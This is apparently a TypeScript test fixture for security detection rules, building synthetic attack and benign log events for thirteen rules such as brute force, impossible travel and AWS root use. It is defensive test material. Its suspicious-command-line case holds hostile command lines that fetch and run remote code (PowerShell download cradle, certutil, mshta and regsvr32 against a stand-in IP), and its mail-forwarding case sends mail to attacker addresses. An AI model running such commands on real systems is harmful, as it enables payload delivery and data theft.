/**
 * Crafted events for each built-in rule (used by builtin_rules_test.ts): an attack that must raise exactly the
 * listed alerts, and benign look-alikes (under the threshold, filtered out by design) that must raise none.
 * Rows use the tables' Sentinel column names, as JSON with ISO TimeGenerated, like rows on the event stream.
 */

/** A JSON event row. */
export type Row = Record<string, unknown>;

/** One rule's test case. */
export interface RuleCase {
  readonly file: string;
  readonly mode: "incremental" | "batch";
  readonly table: string;
  readonly attack: readonly Row[];
  readonly benign: readonly Row[];
  /** The alerts the attack raises, sorted by name, each with its entities. */
  readonly alerts: readonly { readonly name: string; readonly entities: readonly Row[] }[];
}

/** The start of the test timeline: aligned to every rule frequency, so instants fall on T0 + kF. */
export const T0 = Date.UTC(2026, 10, 27, 10, 0) * 1000;

/** ISO time `minutes` (fractions allowed) after T0. */
export function at(minutes: number): string {
  return new Date(T0 / 1000 + Math.round(minutes * 60_000)).toISOString();
}

function times<T>(n: number, make: (i: number) => T): T[] {
  return Array.from({ length: n }, (_, i) => make(i));
}

const logon = (id: 4624 | 4625, minute: number, account: string, more: Row = {}): Row => ({
  TimeGenerated: at(minute),
  EventID: id,
  Computer: "SRV01.contoso.com",
  TargetAccount: account,
  Account: account,
  AccountType: "User",
  IpAddress: "10.0.0.5",
  LogonType: 3,
  ...more,
});

const WINDOWS_BRUTE_FORCE: RuleCase = {
  file: "windows_brute_force.yaml",
  mode: "incremental",
  table: "SecurityEvent",
  attack: times(25, (i) => logon(4625, 1 + i / 6, "CONTOSO\\bob")),
  benign: [
    ...times(19, (i) => logon(4625, 1 + i / 6, "CONTOSO\\dana")),
    ...times(30, (i) => logon(4625, 2 + i / 6, "CONTOSO\\SRV02$", { AccountType: "Machine" })),
    ...times(30, (i) => logon(4624, 2 + i / 6, "CONTOSO\\alice")),
  ],
  alerts: [{
    name: "25 failed logons for CONTOSO\\bob on SRV01.contoso.com",
    entities: [
      { Type: "account", Name: "bob", NTDomain: "CONTOSO" },
      { Type: "host", HostName: "SRV01", DnsDomain: "contoso.com" },
    ],
  }],
};

const WINDOWS_PASSWORD_SPRAY: RuleCase = {
  file: "windows_password_spray.yaml",
  mode: "incremental",
  table: "SecurityEvent",
  attack: times(12, (i) => logon(4625, 2 + i / 4, `CONTOSO\\user${i}`, { IpAddress: "198.51.100.7" })),
  benign: [
    ...times(9, (i) => logon(4625, 2 + i / 4, `CONTOSO\\user${i}`, { IpAddress: "198.51.100.7" })),
    ...times(15, (i) => logon(4625, 2 + i / 4, `CONTOSO\\user${i}`, { IpAddress: "-" })),
    ...times(30, (i) => logon(4625, 2 + i / 8, "CONTOSO\\bob", { IpAddress: "198.51.100.8" })),
  ],
  alerts: [{
    name: "Password spray from 198.51.100.7 against 12 accounts",
    entities: [{ Type: "ip", Address: "198.51.100.7" }],
  }],
};

const WINDOWS_LOGON_AFTER_FAILURES: RuleCase = {
  file: "windows_logon_after_failures.yaml",
  mode: "incremental",
  table: "SecurityEvent",
  attack: [
    ...times(12, (i) => logon(4625, 1 + i / 2, "CONTOSO\\carol", { IpAddress: "203.0.113.9" })),
    logon(4624, 7.5, "CONTOSO\\carol", { IpAddress: "203.0.113.9", LogonType: 10 }),
  ],
  benign: [
    // The success comes 45 minutes after the failures.
    ...times(12, (i) => logon(4625, 1 + i / 2, "CONTOSO\\dave")),
    logon(4624, 52, "CONTOSO\\dave"),
    // Too few failures.
    ...times(5, (i) => logon(4625, 1 + i, "CONTOSO\\erin")),
    logon(4624, 7, "CONTOSO\\erin"),
    // The success comes before the failures.
    logon(4624, 1, "CONTOSO\\frank"),
    ...times(12, (i) => logon(4625, 2 + i / 2, "CONTOSO\\frank")),
  ],
  alerts: [{
    name: "CONTOSO\\carol logged on to SRV01.contoso.com after 12 failures",
    entities: [
      { Type: "account", Name: "carol", NTDomain: "CONTOSO" },
      { Type: "host", HostName: "SRV01", DnsDomain: "contoso.com" },
      { Type: "ip", Address: "203.0.113.9" },
    ],
  }],
};

const signin = (minute: number, user: string, result: string, more: Row = {}): Row => ({
  TimeGenerated: at(minute),
  UserPrincipalName: user,
  ResultType: result,
  ResultDescription: result === "0" ? "" : "Invalid username or password",
  AppDisplayName: "Azure Portal",
  IPAddress: "203.0.113.50",
  Location: "RU",
  ...more,
});

const ENTRA_FAILURES_BY_LOCATION: RuleCase = {
  file: "entra_signin_failures_by_location.yaml",
  mode: "incremental",
  table: "SigninLogs",
  attack: times(12, (i) => signin(1 + i / 2, "alice@contoso.com", "50126")),
  benign: [
    ...times(15, (i) => signin(1 + i / 2, "alice@contoso.com", "50074")),
    ...times(15, (i) => signin(1 + i / 2, "alice@contoso.com", "0")),
    ...times(9, (i) => signin(1 + i, "bob@contoso.com", "50126")),
    ...times(9, (i) => signin(1 + i, "bob@contoso.com", "50126", { Location: "US" })),
  ],
  alerts: [{
    name: "12 failed sign-ins for alice@contoso.com from RU",
    entities: [{ Type: "account", Name: "alice", UPNSuffix: "contoso.com" }],
  }],
};

const place = (city: string, country: string, latitude: number, longitude: number) => ({
  city,
  countryOrRegion: country,
  geoCoordinates: { latitude, longitude },
});
const PARIS = place("Paris", "FR", 48.8566, 2.3522);
const LYON = place("Lyon", "FR", 45.764, 4.8357);
const TOKYO = place("Tokyo", "JP", 35.6762, 139.6503);

const ENTRA_IMPOSSIBLE_TRAVEL: RuleCase = {
  file: "entra_impossible_travel.yaml",
  mode: "incremental",
  table: "SigninLogs",
  attack: [
    signin(2, "bob@contoso.com", "0", { LocationDetails: PARIS, IPAddress: "198.51.100.1", Location: "FR" }),
    signin(40, "bob@contoso.com", "0", { LocationDetails: TOKYO, IPAddress: "203.0.113.77", Location: "JP" }),
  ],
  benign: [
    // Close enough to drive.
    signin(2, "carol@contoso.com", "0", { LocationDetails: PARIS }),
    signin(12, "carol@contoso.com", "0", { LocationDetails: LYON }),
    // The far sign-in failed.
    signin(2, "dave@contoso.com", "0", { LocationDetails: PARIS }),
    signin(20, "dave@contoso.com", "50126", { LocationDetails: TOKYO }),
    // Two users, each in one place.
    signin(3, "erin@contoso.com", "0", { LocationDetails: PARIS }),
    signin(4, "frank@contoso.com", "0", { LocationDetails: TOKYO }),
    // No coordinates.
    signin(5, "erin@contoso.com", "0"),
  ],
  alerts: [{
    name: "Impossible travel for bob@contoso.com: FR to JP",
    entities: [
      { Type: "account", Name: "bob", UPNSuffix: "contoso.com" },
      { Type: "ip", Address: "203.0.113.77" },
      { Type: "ip", Address: "198.51.100.1" },
    ],
  }],
};

const role = (minute: number, roleName: string, more: Row = {}): Row => ({
  TimeGenerated: at(minute),
  OperationName: "Add member to role",
  Category: "RoleManagement",
  Result: "success",
  CorrelationId: `c-${minute}`,
  InitiatedBy: { user: { userPrincipalName: "admin@contoso.com", ipAddress: "198.51.100.23" } },
  TargetResources: [{
    type: "User",
    userPrincipalName: "mallory@contoso.com",
    modifiedProperties: [{ displayName: "Role.DisplayName", oldValue: null, newValue: `"${roleName}"` }],
  }],
  ...more,
});

const ENTRA_PRIVILEGED_ROLE: RuleCase = {
  file: "entra_privileged_role_assignment.yaml",
  mode: "incremental",
  table: "AuditLogs",
  attack: [role(3, "Global Administrator")],
  benign: [
    role(3, "Reports Reader"),
    role(4, "Global Administrator", { Result: "failure" }),
    role(5, "Global Administrator", { OperationName: "Add member to group" }),
  ],
  alerts: [{
    name: "mallory@contoso.com was given the role Global Administrator",
    entities: [
      { Type: "account", Name: "mallory", UPNSuffix: "contoso.com" },
      { Type: "account", Name: "admin", UPNSuffix: "contoso.com" },
      { Type: "ip", Address: "198.51.100.23" },
    ],
  }],
};

const activity = (minute: number, vm: string, status: string, more: Row = {}): Row => ({
  TimeGenerated: at(minute),
  OperationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINES/DEALLOCATE/ACTION",
  ActivityStatusValue: status,
  Caller: "admin@contoso.com",
  CallerIpAddress: "198.51.100.60",
  SubscriptionId: "00000000-0000-0000-0000-000000000001",
  ResourceGroup: "PROD",
  ResourceId: `/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/PROD/providers/` +
    `Microsoft.Compute/virtualMachines/${vm}`,
  ...more,
});

const AZURE_VM_DEALLOCATION: RuleCase = {
  file: "azure_vm_deallocation_burst.yaml",
  mode: "incremental",
  table: "AzureActivity",
  attack: times(
    6,
    (i) => [activity(1 + i / 2, `vm${i}`, "Start"), activity(1.2 + i / 2, `vm${i}`, "Success")],
  )
    .flat(),
  benign: [
    ...times(4, (i) => activity(1 + i / 2, `vm${i}`, "Succeeded")),
    // The same machine twice, as two exports spell its id.
    ...times(4, (i) => activity(1 + i / 2, `db${i}`, "Succeeded", { Caller: "dba@contoso.com" })),
    ...times(4, (i) => activity(1 + i / 2, `db${i}`, "Succeeded", { Caller: "dba@contoso.com" })).map((
      r,
    ) => ({ ...r, ResourceId: String(r.ResourceId).toUpperCase() })),
    ...times(6, () => activity(2, "vm9", "Succeeded", { Caller: "ops@contoso.com" })).map((r, i) => ({
      ...r,
      TimeGenerated: at(2 + i / 2),
    })),
    ...times(6, (i) => activity(1 + i / 2, `vm${i}`, "Start", { Caller: "dev@contoso.com" })),
    ...times(6, (i) =>
      activity(1 + i / 2, `web${i}`, "Succeeded", {
        OperationNameValue: "Microsoft.Compute/virtualMachines/start/action",
        Caller: "ops@contoso.com",
      })),
  ],
  alerts: [{
    name: "admin@contoso.com deallocated 6 virtual machines",
    entities: [{ Type: "account", Name: "admin", UPNSuffix: "contoso.com" }],
  }],
};

const trail = (minute: number, more: Row): Row => ({
  TimeGenerated: at(minute),
  EventSource: "signin.amazonaws.com",
  EventName: "ConsoleLogin",
  EventTypeName: "AwsConsoleSignIn",
  AWSRegion: "us-east-1",
  UserIdentityAccountId: "123456789012",
  SourceIpAddress: "192.0.2.10",
  UserAgent: "Mozilla/5.0",
  ...more,
});
const consoleLogin = (minute: number, user: string, type: string, mfa: string, result: string) =>
  trail(minute, {
    UserIdentityType: type,
    UserIdentityUserName: user,
    UserIdentityArn: `arn:aws:iam::123456789012:user/${user}`,
    AdditionalEventData: JSON.stringify({ LoginTo: "https://console.aws.amazon.com/", MFAUsed: mfa }),
    ResponseElements: JSON.stringify({ ConsoleLogin: result }),
  });

const AWS_LOGIN_WITHOUT_MFA: RuleCase = {
  file: "aws_console_login_without_mfa.yaml",
  mode: "incremental",
  table: "AWSCloudTrail",
  attack: [consoleLogin(1, "dev-jane", "IAMUser", "No", "Success")],
  benign: [
    consoleLogin(1, "dev-jane", "IAMUser", "Yes", "Success"),
    consoleLogin(2, "dev-jane", "IAMUser", "No", "Failure"),
    consoleLogin(3, "sso-user", "AssumedRole", "No", "Success"),
  ],
  alerts: [{
    name: "AWS console login without MFA by dev-jane from 192.0.2.10",
    entities: [
      { Type: "account", Name: "dev-jane", CloudAppAccountId: "123456789012" },
      { Type: "ip", Address: "192.0.2.10" },
    ],
  }],
};

const root = (minute: number, eventName: string, more: Row = {}) =>
  trail(minute, {
    EventName: eventName,
    EventSource: "iam.amazonaws.com",
    EventTypeName: "AwsApiCall",
    UserIdentityType: "Root",
    UserIdentityArn: "arn:aws:iam::123456789012:root",
    SourceIpAddress: "192.0.2.44",
    ...more,
  });

const AWS_ROOT_USE: RuleCase = {
  file: "aws_root_account_use.yaml",
  mode: "incremental",
  table: "AWSCloudTrail",
  attack: [
    root(1, "ConsoleLogin", { EventTypeName: "AwsConsoleSignIn" }),
    root(2, "CreateAccessKey"),
    root(3, "DeleteTrail"),
  ],
  benign: [
    trail(1, { EventName: "CreateAccessKey", UserIdentityType: "IAMUser", UserIdentityUserName: "ops" }),
    root(2, "Decrypt", { UserIdentityInvokedBy: "support.amazonaws.com" }),
    root(3, "Decrypt", { EventTypeName: "AwsServiceEvent" }),
  ],
  alerts: [{
    name: "AWS root account 123456789012 used from 192.0.2.44",
    entities: [
      { Type: "account", Name: "root", CloudAppAccountId: "123456789012" },
      { Type: "ip", Address: "192.0.2.44" },
    ],
  }],
};

const flow = (minute: number, source: string, target: string, port: number): Row => ({
  TimeGenerated: at(minute),
  DeviceVendor: "Palo Alto Networks",
  DeviceProduct: "PAN-OS",
  DeviceAction: "deny",
  SourceIP: source,
  DestinationIP: target,
  DestinationPort: port,
  Protocol: "TCP",
});

const CEF_PORT_SCAN: RuleCase = {
  file: "cef_port_scan.yaml",
  mode: "incremental",
  table: "CommonSecurityLog",
  attack: times(30, (i) => flow(1 + i / 15, "10.1.1.66", "10.1.2.10", 20 + i)),
  benign: [
    ...times(200, (i) => flow(1 + i / 100, "10.1.1.70", `10.1.3.${i}`, 443)),
    ...times(20, (i) => flow(1 + i / 15, "10.1.1.71", "10.1.2.10", 1000 + i)),
  ],
  alerts: [{
    name: "Port scan from 10.1.1.66: 30 ports on 1 hosts",
    entities: [{ Type: "ip", Address: "10.1.1.66" }],
  }],
};

const exchange = (
  minute: number,
  user: string,
  operation: string,
  parameters: Row[],
  more: Row = {},
): Row => ({
  TimeGenerated: at(minute),
  OfficeWorkload: "Exchange",
  RecordType: "ExchangeAdmin",
  Operation: operation,
  UserId: user,
  ClientIP: "203.0.113.5:50432",
  OfficeObjectId: `${user}\\rule`,
  ResultStatus: "True",
  Parameters: JSON.stringify(parameters),
  ...more,
});

const OFFICE_FORWARDING: RuleCase = {
  file: "office_mailbox_forwarding.yaml",
  mode: "incremental",
  table: "OfficeActivity",
  attack: [
    exchange(1, "victim@contoso.com", "New-InboxRule", [
      { Name: "Name", Value: "." },
      { Name: "ForwardTo", Value: "attacker@example.net" },
      { Name: "StopProcessingRules", Value: "True" },
    ]),
    exchange(2, "ceo@contoso.com", "Set-Mailbox", [
      { Name: "Identity", Value: "ceo@contoso.com" },
      { Name: "ForwardingSmtpAddress", Value: "smtp:exfil@example.org" },
    ], { ClientIP: "[2001:db8::5]:443" }),
  ],
  benign: [
    exchange(1, "user@contoso.com", "New-InboxRule", [
      { Name: "Name", Value: "Newsletters" },
      { Name: "MoveToFolder", Value: "Newsletters" },
    ]),
    exchange(2, "user@contoso.com", "Set-Mailbox", [{ Name: "ForwardingSmtpAddress", Value: "" }]),
    exchange(3, "user@contoso.com", "FileAccessed", [{ Name: "ForwardTo", Value: "x@example.net" }], {
      OfficeWorkload: "SharePoint",
    }),
  ],
  alerts: [
    {
      name: "ceo@contoso.com forwards mail to smtp:exfil@example.org",
      entities: [
        { Type: "account", Name: "ceo", UPNSuffix: "contoso.com" },
        { Type: "ip", Address: "2001:db8::5" },
        { Type: "mailbox", MailboxPrimaryAddress: "ceo@contoso.com" },
      ],
    },
    {
      name: "victim@contoso.com forwards mail to attacker@example.net",
      entities: [
        { Type: "account", Name: "victim", UPNSuffix: "contoso.com" },
        { Type: "ip", Address: "203.0.113.5" },
        { Type: "mailbox", MailboxPrimaryAddress: "victim@contoso.com" },
      ],
    },
  ],
};

const process = (
  minute: number,
  fileName: string,
  commandLine: string,
  pid: number,
  parent = "explorer.exe",
): Row => ({
  TimeGenerated: at(minute),
  Timestamp: at(minute),
  DeviceName: "ws01.contoso.com",
  ActionType: "ProcessCreated",
  FileName: fileName,
  FolderPath: `C:\\Windows\\System32\\${fileName}`,
  ProcessCommandLine: commandLine,
  ProcessId: pid,
  SHA256: "a".repeat(64),
  AccountDomain: "contoso",
  AccountName: "eve",
  InitiatingProcessFileName: parent,
  InitiatingProcessCommandLine: `${parent} /n invoice.docm`,
});

const MDE_ATTACKS: readonly [technique: string, fileName: string, commandLine: string, parent?: string][] = [
  [
    "Encoded PowerShell command",
    "powershell.exe",
    "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
  ],
  [
    "PowerShell download cradle",
    "powershell.exe",
    `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"`,
  ],
  [
    "Certutil file download",
    "certutil.exe",
    "certutil.exe -urlcache -split -f http://198.51.100.9/p.exe p.exe",
  ],
  ["Certutil file decoding", "certutil.exe", "certutil -decode payload.b64 payload.dll"],
  [
    "Rundll32 running inline script",
    "rundll32.exe",
    `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)`,
  ],
  ["Mshta running remote or inline script", "mshta.exe", "mshta.exe https://198.51.100.9/a.hta"],
  [
    "Regsvr32 loading a remote scriptlet",
    "regsvr32.exe",
    "regsvr32 /s /n /u /i:http://198.51.100.9/a.sct scrobj.dll",
  ],
];

const MDE_COMMAND_LINES: RuleCase = {
  file: "mde_suspicious_command_line.yaml",
  mode: "incremental",
  table: "DeviceProcessEvents",
  attack: MDE_ATTACKS.map(([, fileName, commandLine, parent], i) =>
    process(1, fileName, commandLine, 100 + i, parent)
  ),
  benign: [
    process(1, "powershell.exe", "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1", 201),
    process(1, "powershell.exe", "powershell.exe -Command Get-Process", 202),
    process(1, "powershell.exe", "powershell.exe -e short", 203),
    process(1, "certutil.exe", "certutil.exe -hashfile setup.exe SHA256", 204),
    process(1, "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL", 205),
    process(1, "mshta.exe", "mshta.exe C:\\Program Files\\App\\help.hta", 206),
    process(1, "notepad.exe", "notepad.exe javascript:.txt", 207),
    process(1, "splwow64.exe", "splwow64.exe 8192", 208, "WINWORD.EXE"),
  ],
  alerts: MDE_ATTACKS.map(([technique, , commandLine], i) => ({
    name: `${technique} on ws01.contoso.com`,
    entities: [
      { Type: "host", HostName: "ws01", DnsDomain: "contoso.com" },
      { Type: "account", Name: "eve", NTDomain: "contoso" },
      { Type: "process", ProcessId: 100 + i, CommandLine: commandLine },
      { Type: "filehash", Algorithm: "SHA256", Value: "a".repeat(64) },
    ],
  })).sort((a, b) => a.name.localeCompare(b.name)),
};

const sshd = (minute: number, message: string, more: Row = {}): Row => ({
  TimeGenerated: at(minute),
  Computer: "web01",
  HostName: "web01",
  Facility: "auth",
  SeverityLevel: "info",
  ProcessName: "sshd",
  ProcessID: 4242,
  SyslogMessage: message,
  ...more,
});

const SYSLOG_SSH: RuleCase = {
  file: "syslog_ssh_brute_force.yaml",
  mode: "incremental",
  table: "Syslog",
  attack: times(20, (i) =>
    sshd(
      1 + i / 10,
      i % 2 === 0
        ? `Failed password for invalid user admin${i} from 45.33.1.9 port ${40000 + i} ssh2`
        : `Failed password for root from 45.33.1.9 port ${40000 + i} ssh2`,
    )),
  benign: [
    ...times(
      20,
      (i) => sshd(1 + i / 10, `Accepted password for deploy from 10.0.0.8 port ${50000 + i} ssh2`),
    ),
    ...times(14, (i) => sshd(1 + i / 10, `Failed password for root from 45.33.1.10 port ${40000 + i} ssh2`)),
    ...times(
      20,
      (i) =>
        sshd(1 + i / 10, `Failed password for root from 45.33.1.11 port ${40000 + i} ssh2`, {
          ProcessName: "cron",
        }),
    ),
  ],
  alerts: [{
    name: "SSH brute force from 45.33.1.9 against web01",
    entities: [{ Type: "ip", Address: "45.33.1.9" }, { Type: "host", HostName: "web01" }],
  }],
};

/** Every case, one per built-in rule file. */
export const RULE_CASES: readonly RuleCase[] = [
  WINDOWS_BRUTE_FORCE,
  WINDOWS_PASSWORD_SPRAY,
  WINDOWS_LOGON_AFTER_FAILURES,
  ENTRA_FAILURES_BY_LOCATION,
  ENTRA_IMPOSSIBLE_TRAVEL,
  ENTRA_PRIVILEGED_ROLE,
  AZURE_VM_DEALLOCATION,
  AWS_LOGIN_WITHOUT_MFA,
  AWS_ROOT_USE,
  CEF_PORT_SCAN,
  OFFICE_FORWARDING,
  MDE_COMMAND_LINES,
  SYSLOG_SSH,
];
